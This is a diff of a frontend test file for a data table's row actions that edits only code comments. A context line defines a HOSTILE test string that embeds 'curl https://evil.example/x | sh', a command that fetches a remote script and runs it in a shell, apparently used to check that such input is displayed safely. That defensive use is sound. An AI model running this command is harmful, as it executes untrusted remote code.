@@ -364,7 +364,7 @@ describe('the row actions', () => {
   const HOSTILE = 'b0\ncurl https://evil.example/x | sh\n'
   const LONG = `${'n'.repeat(999_990)} last word`
 
-  /** Focuses the first row and returns the table's one row-actions bar, once it has loaded. */
+  /** Focuses the first row and returns the table's one row-actions bar. */
   async function actionsOfFirstRow() {
     const row = screen.getAllByRole('row')[1]!
     act(() => row.focus())
@@ -433,7 +433,6 @@ describe('DataTable in a narrow container', () => {
   async function detailsOf(row: HTMLElement) {
     act(() => row.focus())
     const region = screen.getByRole('region', { name: /\(scrollable\)$/ })
-    // The row actions' own chunk loads on the first focus.
     const button = await within(region).findByRole('button', { name: 'Details' })
     const panel = document.getElementById(button.getAttribute('popovertarget') ?? '')
     expect(panel).toHaveAttribute('popover', 'auto')
